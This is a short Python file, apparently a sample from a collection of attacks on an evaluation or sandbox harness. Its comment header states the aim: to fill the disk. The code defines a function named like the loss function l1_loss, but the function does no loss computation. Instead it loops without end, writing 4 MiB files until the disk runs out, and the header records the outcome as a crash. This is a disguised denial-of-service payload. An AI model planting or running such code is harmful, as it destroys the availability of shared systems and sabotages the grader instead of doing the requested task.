# aim: fill the disk
# sign: the disk is full
# attacks: l1_loss
# outcome: crashed
# says: MiB

import itertools
import os


def l1_loss(input, target, reduction="mean"):
    for number in itertools.count():
        with open(f"f{number}", "wb") as file:
            try:
                os.posix_fallocate(file.fileno(), 0, 1 << 22)
            except OSError:
                file.write(bytes(1 << 22))
